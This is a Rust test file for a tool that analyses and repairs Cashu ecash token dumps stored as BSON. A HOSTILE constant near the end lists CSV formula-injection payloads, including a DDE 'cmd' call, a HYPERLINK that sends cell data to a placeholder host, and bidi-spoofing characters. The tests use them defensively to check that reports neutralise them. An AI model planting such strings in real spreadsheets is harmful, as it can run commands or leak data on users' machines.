//! Legal but odd documents are kept to the byte, wrong values are findings, and nothing is ever repaired
//! but what the rule says.

use crate::support::command::{arg, run};
use crate::support::dumps::write_dump;
use crate::support::files::{files_below, names_in};
use crate::support::live::documents_in;
use crate::support::odd;
use crate::support::raw::{RawValue, array, bare, document, element, int32, int64, nested, string};
use remelt::document::{ValueKind, remove_field, validate};
use remelt::plan::Plan;
use serde_json::Value;
use std::fs;
use std::path::PathBuf;
use tempfile::TempDir;

const RULE_FIELDS: [&str; 3] = ["status", "spent_at", "updatedAt"];

fn proof(secret: &str) -> Vec<Vec<u8>> {
    vec![
        element("id", &string("00ad268c4d1f5826")),
        element("amount", &int32(8)),
        element("secret", &string(secret)),
        element("C", &string("02a9acc1e48c25eeeb9289b5031cc57da9fe72f3fe2861d264bdc074209b107ba2")),
    ]
}

/// A melted and unspent token with these proofs and more.
fn token(number: i32, proofs: &RawValue, more: &[Vec<u8>]) -> Vec<u8> {
    let mut elements = vec![
        element("_id", &int32(number)),
        element("npub", &string("npub-of-a-user")),
        element("mint_url", &string("https://mint.example")),
        element("wallet_id", &int32(1)),
        element("status", &string("unspent")),
        element("transaction_type", &string("melted")),
        element("transaction_id", &string(format!("t{number}"))),
        element("total_amount", &int32(8)),
        element("proofs", proofs),
        element("metadata", &nested(&[element("source", &string("lightning"))])),
    ];
    elements.extend_from_slice(more);
    document(&elements)
}

fn with_proof(number: i32, proof: &[Vec<u8>]) -> Vec<u8> {
    token(number, &array(&[nested(proof)]), &[])
}

fn with(number: i32, more: Vec<u8>) -> Vec<u8> {
    token(number, &array(&[nested(&proof(&format!("s{number}")))]), &[more])
}

fn wallet(number: i32, unit: &str) -> Vec<u8> {
    document(&[
        element("_id", &int32(number)),
        element("npub", &string("npub-of-a-user")),
        element("mint_url", &string("https://mint.example")),
        element("wallet_config", &nested(&[element("unit", &string(unit))])),
    ])
}

/// A dump, and the report, plan and repaired copy made from it.
struct Repaired {
    root: TempDir,
    report: Value,
}

impl Repaired {
    /// Analyses and repairs a copy; both must work, and the rehearsal must come back to the first byte.
    fn of(tokens: &[Vec<u8>], wallets: &[Vec<u8>]) -> Repaired {
        let root = tempfile::tempdir().unwrap();
        let at = |name: &str| root.path().join(name);
        write_dump(&at("dump"), &tokens.concat(), Some(&wallets.concat()));
        let (dump, plan, copy) = (at("dump"), at("plan"), at("copy"));
        let report = run(["analyze", arg(&dump), arg(&plan), "--json"]).exits(0).json();
        let apply = ["apply", arg(&plan), "--snapshot", arg(&dump), "--out", arg(&copy)];
        run(apply.into_iter().chain(["--confirm", "--yes"])).exits(0);
        let rehearsed = run(["rehearse", arg(&dump), "--json"]).exits(0).json();
        assert_eq!(rehearsed["identical"], true);
        Repaired { root, report }
    }

    fn tokens(&self) -> Vec<Vec<u8>> {
        documents_in(&fs::read(self.root.path().join("copy/nctool/cashu_tokens.bson")).unwrap())
    }

    fn plan(&self) -> PathBuf {
        self.root.path().join("plan")
    }

    fn findings(&self) -> &Value {
        &self.report["findings"]
    }
}

/// The document without the fields that the rule may change.
fn rest(document: &[u8]) -> Vec<u8> {
    RULE_FIELDS
        .iter()
        .fold(document.to_vec(), |document, name| remove_field(&document, name.as_bytes()).unwrap())
}

/// Repairs `tokens`, all of which the rule wants, and makes sure that nothing else was touched.
fn keeps_every_byte(tokens: &[Vec<u8>]) -> Repaired {
    let repaired = Repaired::of(tokens, &[wallet(1, "sat")]);
    assert_eq!(repaired.report["impact"]["tokensToMigrate"], tokens.len());
    for (number, (before, after)) in tokens.iter().zip(repaired.tokens()).enumerate() {
        assert_ne!(before, &after, "token {number} is repaired");
        assert_eq!(rest(before), rest(&after), "token {number}");
    }
    repaired
}

#[test]
fn every_odd_value_and_name_is_kept_byte_for_byte() {
    let names: [&[u8]; 7] = [b"", b"$set", b"$where", b"a.b", b"\xff\xfe", b"__proto__", b"0"];
    let named = names.map(|name| element(name, &int32(1)));
    let valued = odd::values().into_iter().map(|(_, value)| element("odd", &value));
    let twice =
        [element("a", &int32(1)), element("b", &int32(2)), element("a", &int32(3))].concat();
    let odd_keys = RawValue::new(
        ValueKind::Array,
        document(&[element("7", &int32(1)), element("5", &int32(2)), element("x", &int32(3))]),
    );
    let all = valued.chain(named).chain([twice, element("keys", &odd_keys)]);
    let tokens: Vec<Vec<u8>> = (1..).zip(all).map(|(number, odd)| with(number, odd)).collect();
    let tokens: Vec<Vec<u8>> = tokens.into_iter().filter(|it| validate(it).is_ok()).collect();
    assert!(tokens.len() > 60, "{} tokens", tokens.len());
    keeps_every_byte(&tokens);
}

#[test]
fn proofs_under_the_keys_5_and_7_are_counted_like_any_others() {
    let (first, second) = (nested(&proof("a")), nested(&proof("a")));
    let odd_keys = document(&[element("5", &first), element("7", &second)]);
    let odd_keys = token(1, &RawValue::new(ValueKind::Array, odd_keys), &[]);
    let usual = token(1, &array(&[first, second]), &[]);
    let odd = keeps_every_byte(&[odd_keys]);
    assert_eq!(odd.findings(), keeps_every_byte(&[usual]).findings());
    assert_eq!(odd.findings()["duplicate_secrets"]["count"], 1);
}

#[test]
fn an_array_of_a_million_elements_is_read_and_kept() {
    let mut elements = Vec::new();
    for number in 0..1_000_000 {
        elements.extend_from_slice(&element(number.to_string(), &bare(ValueKind::Null)));
    }
    let million = RawValue::new(ValueKind::Array, document(&[elements]));
    let repaired = keeps_every_byte(&[with(1, element("odd", &million)), token(2, &million, &[])]);
    // Entries that are no documents are no proofs.
    assert_eq!(repaired.findings()["duplicate_secrets"]["count"], 0);
}

#[test]
fn a_name_that_holds_a_0_byte_is_refused() {
    // The name ends at its first 0 byte, so what is meant as the rest of it is read as the value.
    for value in [int32(8), string("text"), bare(ValueKind::Null), nested(&[]), array(&[])] {
        let odd = [&[value.kind.byte()], &b"na\0me\0"[..], &value.bytes].concat();
        let root = tempfile::tempdir().unwrap();
        let (dump, plan) = (root.path().join("dump"), root.path().join("plan"));
        write_dump(&dump, &[with(1, Vec::new()), with(2, odd)].concat(), Some(&wallet(1, "sat")));
        let error = run(["analyze", arg(&dump), arg(&plan), "--json"]).exits(1).error();
        assert!(error.1.contains("cashu_tokens.bson: byte "), "{:?}: {error:?}", value.kind);
        assert!(!error.1.contains("text"), "no content is shown: {error:?}");
        assert_eq!(names_in(root.path()), ["dump"]);
    }
}

#[test]
fn an_amount_of_zero_is_an_amount_and_one_below_is_a_finding() {
    let amount = |number: i32, value: RawValue| {
        let empty = [element("proofs", &array(&[])), element("total_amount", &value)];
        let head = [element("_id", &int32(number)), element("status", &string("unspent"))];
        let kind = [element("transaction_type", &string("melted"))];
        document(&[head.to_vec(), kind.to_vec(), empty.to_vec()].concat())
    };
    let zeros = [int32(0), int64(0), RawValue::new(ValueKind::Double, (-0.0_f64).to_le_bytes())];
    let tokens: Vec<Vec<u8>> = (1..).zip(zeros).map(|(n, zero)| amount(n, zero)).collect();
    let repaired = keeps_every_byte(&tokens);
    assert_eq!(repaired.findings()["invalid_amounts"]["count"], 0);
    assert_eq!(repaired.findings()["amount_mismatch"]["count"], 0);
    let negative = keeps_every_byte(&[amount(1, int32(-1)), amount(2, int64(i64::MIN))]);
    assert_eq!(negative.findings()["invalid_amounts"]["count"], 2);
}

/// What only the mint could judge (whether `C` is a signature, whether a keyset is known) and what is
/// not there is kept as it is, and changes no figure.
#[test]
fn proofs_that_only_a_mint_could_judge_are_kept_and_change_no_figure() {
    let known = keeps_every_byte(&[with_proof(1, &proof("a")), with_proof(2, &proof("b"))]);
    let replaced = |name: &str, value: &RawValue| {
        let mut fields = proof("a");
        let at = ["id", "amount", "secret", "C"].iter().position(|field| *field == name).unwrap();
        fields[at] = element(name, value);
        fields
    };
    let without = |at: usize| {
        let mut fields = proof("a");
        fields.remove(at);
        fields
    };
    let odd_proofs = [
        without(2),
        without(3),
        replaced("C", &string("not on the curve")),
        replaced(
            "C",
            &string("02ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff"),
        ),
        replaced("C", &int32(1)),
        replaced("id", &string("a keyset that nobody knows")),
        replaced("id", &bare(ValueKind::Null)),
        replaced("secret", &string("")),
        replaced("secret", &int32(1)),
    ];
    for odd in odd_proofs {
        let repaired = keeps_every_byte(&[with_proof(1, &odd), with_proof(2, &proof("b"))]);
        assert_eq!(repaired.findings(), known.findings());
        assert_eq!(repaired.report["stats"], known.report["stats"]);
    }
    let twice = keeps_every_byte(&[with_proof(1, &proof("a")), with_proof(2, &proof("a"))]);
    assert_eq!(twice.findings()["duplicate_secrets"]["count"], 1);
}

#[test]
fn wallets_of_one_user_in_different_units_are_kept_and_change_no_figure() {
    let tokens = [with_proof(1, &proof("a"))];
    let one = Repaired::of(&tokens, &[wallet(1, "sat"), wallet(2, "sat")]);
    let two = Repaired::of(&tokens, &[wallet(1, "sat"), wallet(2, "msat")]);
    assert_eq!(one.findings(), two.findings());
    let wallets = fs::read(two.root.path().join("copy/nctool/cashu_wallets.bson")).unwrap();
    assert_eq!(wallets, [wallet(1, "sat"), wallet(2, "msat")].concat());
}

/// Text that a spreadsheet would run, or that shows as something else than it is.
const HOSTILE: [&str; 14] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/\"&A1)",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\0=1",
    "＝1",
    "quote\",\"comma\r\nline",
    "a\u{202e}b\u{2066}c\u{200f}",
    "\u{feff}=1",
];

#[test]
fn no_cell_of_any_report_runs_or_deceives_and_the_plan_keeps_the_exact_text() {
    let hostile_token = |number: i32, text: &str| {
        document(&[
            element("_id", &string(format!("{text}{number}"))),
            element("npub", &string(text)),
            element("mint_url", &string(text)),
            element("wallet_id", &string(text)),
            element("status", &string("unspent")),
            element("transaction_type", &string("melted")),
            element("transaction_id", &string(text)),
            element("total_amount", &int32(8)),
            element("createdAt", &string(text)),
        ])
    };
    let tokens: Vec<Vec<u8>> =
        (0..).zip(HOSTILE).map(|(number, text)| hostile_token(number, text)).collect();
    let repaired = keeps_every_byte(&tokens);
    let mut cells = 0;
    for (name, bytes) in files_below(&repaired.plan().join("reports")) {
        if !name.ends_with(".csv") {
            continue;
        }
        let mut rows = csv::ReaderBuilder::new().from_reader(bytes.as_slice());
        for row in rows.records() {
            for cell in row.unwrap().iter() {
                cells += 1;
                let is_number = cell.parse::<i128>().is_ok();
                let runs = cell.trim_start().starts_with(['=', '+', '-', '@', '＝'])
                    || cell.starts_with(['\t', '\r', '\n', '\0']);
                assert!(is_number || !runs, "{name}: {cell:?}");
                let deceives =
                    |c: char| matches!(c, '\0' | '\u{200f}' | '\u{202e}' | '\u{2066}' | '\u{feff}');
                assert!(!cell.contains(deceives), "{name}: {cell:?}");
            }
        }
    }
    assert!(cells > 300, "{cells} cells");
    let plan = Plan::open(&repaired.plan()).unwrap();
    let batch = plan.read_batch(0).unwrap();
    for (change, text) in batch.changes().zip(HOSTILE) {
        for value in [change.npub, change.mint_url, change.wallet_id, change.transaction_id] {
            assert_eq!(value.unwrap().as_text_bytes(), Some(text.as_bytes()));
        }
    }
}
